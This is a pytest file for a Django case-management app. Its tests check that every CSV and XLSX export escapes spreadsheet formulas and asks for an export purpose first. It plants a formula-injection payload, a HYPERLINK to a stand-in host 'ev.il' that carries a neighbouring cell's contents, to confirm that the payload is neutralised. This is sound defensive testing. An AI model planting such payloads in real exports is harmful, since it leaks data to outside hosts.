"""Every CSV export neutralises cells a spreadsheet would run as formulas (core.safecsv), and
asks the purpose first (core.export_purpose).

Text that users typed reaches the exports: a break-glass or two-factor reset reason in the
audit log, a disclosure's purpose, labels in an evaluation report. Planted with a formula, each
must come out with a leading apostrophe, and no cell of the file may start with =. Each export
is reached as a user reaches it: the purpose question, answered, then the file.
"""

from __future__ import annotations

import csv
import inspect
import io
import re
from typing import Any

import pytest
from django.urls import resolve, reverse
from openpyxl import load_workbook

from desist.accounts.services import two_factor_reset
from desist.accounts.tests.test_two_factor import _enrol
from desist.audit.models import AuditEvent, Category
from desist.audit.services import audit_record
from desist.core.export_purpose import FORM_MARKER, REASON_MAX, Purpose, asks_purpose
from desist.core.roles import RoleCode as R
from desist.core.tests.exporting import csv_dicts, download
from desist.core.tests.test_url_walk import ROUTES, _example_path
from desist.evaluation import extract
from desist.evaluation.models import EvaluationRun, RunStatus
from desist.sharing import services as sharing_services
from desist.sharing.models import LawfulBasis

FORMULA = '=HYPERLINK("http://ev.il/?"&B2,"Details") urgent'
RESET_REASON = "@SUM(1+1) lost phone"


def _cells(body: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(body)) for c in row]


def _assert_neutralised(body: str, *planted: str) -> None:
    cells = _cells(body)
    for text in planted:
        assert any(c.startswith("'" + text) for c in cells), text
    assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))]


def test_audit_export(client: Any, users: dict[R, Any]) -> None:
    audit_record(
        actor=users[R.POLICE_OFFICER],
        category=Category.SECURITY,
        verb="break_glass.open",
        justification=FORMULA,
    )
    _enrol(users[R.POLICE_SUPERVISOR])  # a reset needs a second factor to remove
    two_factor_reset(
        actor=users[R.SYSTEM_ADMIN], user=users[R.POLICE_SUPERVISOR], reason=RESET_REASON
    )
    client.force_login(users[R.OVERSEER])
    response = download(client, reverse("audit:export"))
    assert response.status_code == 200
    _assert_neutralised(b"".join(response.streaming_content).decode(), FORMULA, RESET_REASON)


def test_disclosure_export(client: Any, users: dict[R, Any], orgs: Any) -> None:
    sharing_services.disclosure_record(
        actor=None,
        from_organisation=orgs["provider"],
        to_organisation=orgs["police_force"],
        what="Attendance summary",
        purpose=FORMULA,
        lawful_basis=LawfulBasis.CDA_S115,
    )
    client.force_login(users[R.POLICE_SUPERVISOR])
    response = download(client, reverse("sharing:disclosures_export"))
    _assert_neutralised(b"".join(response.streaming_content).decode(), FORMULA)


def test_evaluation_report_csv(client: Any, users: dict[R, Any]) -> None:
    overseer = users[R.OVERSEER]
    run = EvaluationRun.objects.create(
        organisation=overseer.organisation,
        created_by=overseer,
        status=RunStatus.DONE,
        progress=100,
        result={"funnel": [[FORMULA, 40], ["Referred", 30]]},
    )
    client.force_login(overseer)
    response = download(client, reverse("evaluation:run_csv", args=[run.pk]))
    assert response.status_code == 200
    _assert_neutralised(response.content.decode(), FORMULA)


def test_evaluation_extract_csv() -> None:
    body = extract.to_csv([{"group": FORMULA, "value": -2}], ["group", "value"])
    _assert_neutralised(body, FORMULA)
    assert csv_dicts(body)[0]["value"] == "-2"  # numbers stay numbers


# --- every export on the URL list --------------------------------------------------------------
# The walk finds each route that answers with a CSV or XLSX file; each must appear in PLANTS (a
# free-text field it carries, planted with a formula) or in NO_FREE_TEXT (with the reason).

XLSX = "spreadsheetml"
EXPORT_MARKERS = ("text/csv", "XLSX_CONTENT_TYPE", "_csv_response", "_export_response")


def _view_source(path: str) -> str:
    func = inspect.unwrap(resolve(path).func)
    return inspect.getsource(func)


def export_routes() -> set[str]:
    found = set()
    for name, route in ROUTES:
        path = _example_path(route)
        if re.search(r"\.(csv|xlsx)$", path) or any(
            marker in _view_source(path) for marker in EXPORT_MARKERS
        ):
            found.add(name)
    return found


def _body(response: Any) -> bytes:
    if getattr(response, "streaming", False):
        return b"".join(response.streaming_content)
    return bytes(response.content)


def _cells_of(response: Any) -> list[str]:
    """Every text cell of the CSV or XLSX answer."""
    body = _body(response)
    if XLSX in response["Content-Type"]:
        book = load_workbook(io.BytesIO(body))
        return [str(c) for s in book.worksheets for r in s.iter_rows(values_only=True) for c in r]
    return _cells(body.decode())


def _plant_audit(users: dict[R, Any], orgs: Any, make_user: Any) -> tuple[Any, str, list[Any]]:
    from desist.people.tests.factories import make_subject
    from desist.sharing.break_glass import break_glass_request

    holder = make_user(R.POLICE_OFFICER, organisation=orgs["other_police_force"])
    break_glass_request(
        actor=users[R.POLICE_OFFICER], record=make_subject(holder), justification=FORMULA
    )
    return users[R.OVERSEER], reverse("audit:export"), []


def _plant_accounts(users: dict[R, Any], orgs: Any, make_user: Any) -> tuple[Any, str, list[Any]]:
    type(users[R.POLICE_OFFICER]).objects.filter(pk=users[R.POLICE_OFFICER].pk).update(team=FORMULA)
    return users[R.SYSTEM_ADMIN], reverse("accounts:export"), []


def _plant_register(fmt: str) -> Any:
    def plant(users: dict[R, Any], orgs: Any, make_user: Any) -> tuple[Any, str, list[Any]]:
        from desist.orders import actions as order_services
        from desist.orders.tests.helpers import ago, make_subject

        officer = users[R.POLICE_OFFICER]
        order_services.order_apply(
            actor=officer,
            subject=make_subject(orgs["police_force"]),
            application_date=ago(30),
            court=FORMULA,
        )
        return officer, reverse(f"orders:export_{fmt}"), []

    return plant


def _plant_disclosures(
    users: dict[R, Any], orgs: Any, make_user: Any
) -> tuple[Any, str, list[Any]]:
    sharing_services.disclosure_record(
        actor=None,
        from_organisation=orgs["provider"],
        to_organisation=orgs["police_force"],
        what="Attendance summary",
        purpose=FORMULA,
        lawful_basis=LawfulBasis.CDA_S115,
    )
    return users[R.POLICE_SUPERVISOR], reverse("sharing:disclosures_export"), []


def _plant_report(users: dict[R, Any], orgs: Any, make_user: Any) -> tuple[Any, str, list[Any]]:
    overseer = users[R.OVERSEER]
    run = EvaluationRun.objects.create(
        organisation=overseer.organisation,
        created_by=overseer,
        status=RunStatus.DONE,
        progress=100,
        result={"funnel": [[FORMULA, 40], ["Referred", 30]]},
    )
    return overseer, reverse("evaluation:run_csv", args=[run.pk]), []


PLANTS = {
    "audit:export": _plant_audit,  # a break-glass reason
    "accounts:export": _plant_accounts,  # a person's team
    "orders:export_csv": _plant_register("csv"),  # the court's name
    "orders:export_xlsx": _plant_register("xlsx"),
    "sharing:disclosures_export": _plant_disclosures,  # the purpose of a disclosure
    "evaluation:run_csv": _plant_report,  # a label of a report table
}
NO_FREE_TEXT = {
    # Pseudonymised extracts: pseudonyms, coded values, dates and counts; nothing typed.
    "evaluation:extract_people": "coded columns only (see the data dictionary)",
    "evaluation:extract_aggregates": "fixed labels and suppressed counts",
    # The data dictionary: the column definitions in the code, no data.
    "evaluation:extract_dictionary": "fixed text from the code",
}
# Downloads that do not ask a purpose first, each with the reason (core.export_purpose and
# docs/adr/0027): a decision, not an omission. Anything else the walks find must ask.
NO_PURPOSE = {
    # The data dictionary: each extract column's name and meaning, written in the code. No
    # rows and no personal data, so nothing is disclosed and there is no purpose to record.
    "evaluation:extract_dictionary": "the column definitions: no rows, nothing disclosed",
    # The subject access bundle is the answer to one person's request: its purpose is that
    # request, recorded with it (desist/sar), and only the request's handler may download it.
    "sar:bundle_pdf": "the response to a subject access request, which is its purpose",
}


def test_the_walk_finds_every_export_and_each_is_covered() -> None:
    found = export_routes()
    assert {"audit:export", "orders:export_xlsx"} <= found  # the walk sees both kinds
    assert found == set(PLANTS) | set(NO_FREE_TEXT)


@pytest.mark.parametrize("name", sorted(PLANTS))
def test_planted_formula_comes_out_escaped(
    client: Any, users: dict[R, Any], orgs: Any, make_user: Any, name: str
) -> None:
    actor, url, _ = PLANTS[name](users, orgs, make_user)
    client.force_login(actor)
    response = download(client, url)
    assert response.status_code == 200, name
    cells = _cells_of(response)
    assert "'" + FORMULA in cells, name
    assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))], name


@pytest.mark.parametrize("name", sorted(NO_FREE_TEXT))
def test_exports_without_free_text_have_no_formula_cells(
    client: Any, users: dict[R, Any], orgs: Any, name: str
) -> None:
    from desist.evaluation.tests import helpers as evaluation_helpers

    evaluation_helpers.partnership_for(orgs)
    client.force_login(users[R.OVERSEER])
    url = reverse(name)
    response = client.get(url) if name in NO_PURPOSE else download(client, url)
    assert response.status_code == 200, name
    cells = _cells_of(response)
    assert cells  # at least the header
    assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))], name


def test_every_export_audit_row_records_format_filters_and_rows(
    client: Any, users: dict[R, Any], orgs: Any, make_user: Any
) -> None:
    """The export is itself a disclosure: its audit row says what was taken (no personal data)."""
    for name, plant in PLANTS.items():
        actor, url, _ = plant(users, orgs, make_user)
        client.force_login(actor)
        before = AuditEvent.objects.filter(category=Category.DISCLOSURE).count()
        response = download(client, url)
        _body(response)
        rows = AuditEvent.objects.filter(category=Category.DISCLOSURE).order_by("id")[before:]
        logged = [e.new_values for e in rows if e.new_values and "format" in e.new_values]
        assert logged, name
        facts = logged[0]
        assert facts["format"] in {"csv", "xlsx"}, name
        assert isinstance(facts["filters"], dict), name
        assert isinstance(facts["rows"], int) and facts["rows"] >= 1, name
        assert facts["purpose"] in Purpose.values and facts["purpose"] != Purpose.OTHER, name
        assert facts["purpose_reason"] == "", name  # a reason only with Other
        assert FORMULA not in str(facts), name


# --- the purpose, asked before every bulk export ------------------------------------------------


def report_routes() -> set[str]:
    """Routes that hand out a PDF: a report is a bulk export as much as its CSV is."""
    return {name for name, route in ROUTES if _example_path(route).endswith(".pdf")}


def test_every_export_asks_a_purpose_first() -> None:
    """Every download the walks find (CSV, XLSX and PDF) is behind the question, or listed in
    NO_PURPOSE with its reason. Seen red: the evaluation report's PDF, beside its CSV, did
    not ask (tester finding)."""
    downloads = export_routes() | report_routes()
    assert {"evaluation:run_pdf", "sar:bundle_pdf"} <= downloads  # the walk sees the PDFs
    asking = {name for name in downloads if asks_purpose(resolve(_path(name)).func)}
    assert asking == downloads - set(NO_PURPOSE), downloads - set(NO_PURPOSE) - asking
    assert not set(NO_PURPOSE) & asking, "remove from NO_PURPOSE: it asks"


def _path(name: str) -> str:
    return next(_example_path(route) for n, route in ROUTES if n == name)


def _disclosures() -> int:
    return AuditEvent.objects.filter(category=Category.DISCLOSURE).count()


@pytest.mark.parametrize("name", sorted(PLANTS))
def test_an_export_without_a_purpose_is_refused(
    client: Any, users: dict[R, Any], orgs: Any, make_user: Any, name: str
) -> None:
    """No file and no export audit row until a purpose (and, for Other, the reason) is given;
    then the row records both. Seen red: with the view run whatever the answer, a file came
    back to the unanswered form."""
    actor, url, _ = PLANTS[name](users, orgs, make_user)
    client.force_login(actor)
    before = _disclosures()
    question = client.get(url)
    assert question.status_code == 200 and "Content-Disposition" not in question, name
    page = question.content.decode()
    assert FORM_MARKER in page and "Why are you exporting this?" in page, name
    for data, message in (
        ({}, "Select why you are exporting this"),
        ({"export_purpose": "made-up"}, "Select why you are exporting this"),
        ({"export_purpose": Purpose.OTHER, "export_reason": "  "}, "Enter the reason"),
    ):
        refused = client.post(url, data)
        assert refused.status_code == 200 and "Content-Disposition" not in refused, (name, data)
        body = refused.content.decode()
        assert "There is a problem" in body and message in body, (name, data)
    assert _disclosures() == before, name  # nothing was exported, so nothing is recorded
    reason = "Checking the figures for the partnership board"
    given = client.post(url, {"export_purpose": Purpose.OTHER, "export_reason": reason})
    assert given.status_code == 200 and given["Content-Disposition"].startswith("attachment")
    _body(given)
    logged = [
        e.new_values
        for e in AuditEvent.objects.filter(category=Category.DISCLOSURE).order_by("id")[before:]
        if e.new_values and "format" in e.new_values
    ]
    assert logged and logged[0]["purpose"] == Purpose.OTHER, name
    assert logged[0]["purpose_reason"] == reason, name


def test_an_over_long_reason_shows_only_the_length_error(client: Any, users: dict[R, Any]) -> None:
    """5,000 characters posted past the textarea's limit: the length error, not also "Enter the
    reason" (tester finding). Seen red before the fix: both messages showed."""
    client.force_login(users[R.POLICE_OFFICER])
    url = reverse("orders:export_csv")
    refused = client.post(url, {"export_purpose": Purpose.OTHER, "export_reason": "x" * 5000})
    body = refused.content.decode()
    assert refused.status_code == 200 and "Content-Disposition" not in refused
    assert f"The reason must be {REASON_MAX} characters or fewer" in body
    assert "Enter the reason" not in body


def test_the_question_keeps_the_filters_and_offers_the_roles_purposes(
    client: Any, users: dict[R, Any]
) -> None:
    """The register filtered by status: the question names the filter and posts back to the
    same address, so the file holds the filtered rows; an officer is offered police purposes."""
    client.force_login(users[R.POLICE_OFFICER])
    url = reverse("orders:export_csv") + "?status=full"
    page = client.get(url).content.decode()
    assert "Status: Full order" in page
    assert re.search(r"<form method=\"post\" novalidate " + FORM_MARKER, page)  # no action
    assert 'value="court"' in page and 'value="access_review"' not in page
    client.post(url, {"export_purpose": "court"})
    event = AuditEvent.objects.filter(verb="order.export").latest("id")
    assert event.new_values["filters"] == {"Status": "Full order"}
    assert event.new_values["purpose"] == "court"
    # A purpose not offered to the role is refused like a made-up one.
    refused = client.post(url, {"export_purpose": "access_review"}).content.decode()
    assert "Select why you are exporting this" in refused
